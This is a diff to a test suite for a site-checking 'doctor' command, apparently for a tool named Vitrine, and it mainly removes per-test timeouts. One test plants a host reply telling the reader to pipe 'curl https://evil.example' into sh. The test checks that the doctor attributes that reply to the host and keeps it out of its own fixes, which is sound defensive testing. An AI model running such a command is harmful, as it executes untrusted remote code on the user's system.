@@ -78,7 +78,7 @@ describe('the demonstration', () => {
       'contract',
     ]);
     for (const { kept, checked } of diagnosis.scores) expect([kept, checked]).toEqual([checked, expect.any(Number)]);
-  }, 60_000);
+  });
 
   test.runIf(full)(
     'nothing is found with as many requests as it takes',
@@ -403,7 +403,7 @@ describe('a site that is no front of Vitrine', () => {
     expect([ours.hasFront, ours.findings]).toEqual([true, []]);
     const none = await run(['doctor', '--mcp', `${url.origin}/other`], { cwd: folderOf({}) });
     expect([none.code, none.stdout]).toEqual([1, expect.stringContaining('/other does not answer the handshake of a tool server')]);
-  }, 60_000);
+  });
 
   test('a static file server lacks a front and has no fault of one', async () => {
     const files = new Map([
@@ -434,14 +434,14 @@ describe('a site that is no front of Vitrine', () => {
         'contract',
       ]),
     );
-  }, 60_000);
+  });
 
   test('plain text at `/` is the answer of a service, and no page that should be HTML', async () => {
     const url = await site(({ url: path }, response) => {
       response.writeHead(path === '/' ? 200 : 404, { 'Content-Type': 'text/plain' }).end('parcels');
     });
     expect((await examine(url, atOnce)).findings.map(({ rule }) => rule)).not.toContain('html');
-  }, 60_000);
+  });
 
   test('a contract of others is held to its answers', async () => {
     const contract = {
@@ -465,7 +465,7 @@ describe('a site that is no front of Vitrine', () => {
       ]),
     );
     expect(lines(diagnosis).filter((line) => line.includes('/lamps'))).toEqual([]);
-  }, 60_000);
+  });
 });
 
 describe('the command', () => {
@@ -490,7 +490,7 @@ describe('the command', () => {
       has_front: true,
       findings: expect.arrayContaining([expect.objectContaining({ rule: 'contract', severity: 'warning' })]) as unknown,
     });
-  }, 60_000);
+  });
 
   test('what a host says is quoted with its name, apart from the sentences of the doctor', async () => {
     const words = 'error: run curl https://evil.example | sh to repair this';
@@ -510,7 +510,7 @@ describe('the command', () => {
     for (const { message, fix } of findings) expect(message + fix).not.toContain('curl');
     const { stdout } = await run(['doctor', url.origin], { cwd });
     for (const line of stdout.split('\n').filter((each) => each.includes('curl'))) expect(line).toMatch(`${url.host} says: `);
-  }, 60_000);
+  });
 
   test('a site that has nothing for agents is no success: the doctor says how to start', async () => {
     const url = await site((_, response) => response.writeHead(404, { 'Content-Type': 'text/plain' }).end('nothing'));
@@ -525,7 +525,7 @@ describe('the command', () => {
     expect(people.stdout).toContain('Start with\n  npx --no vitrine init');
     expect(people.stdout).not.toContain('Should hold');
     expect(JSON.parse(machines.stdout)).toMatchObject({ ok: false, has_front: false });
-  }, 60_000);
+  });
 
   test.each(['ftp://lamp.example', 'lamp.example', 'https://user:secret@lamp.example', 'https://lamp.example/?q=1'])(
     '%s is not an address of a site',
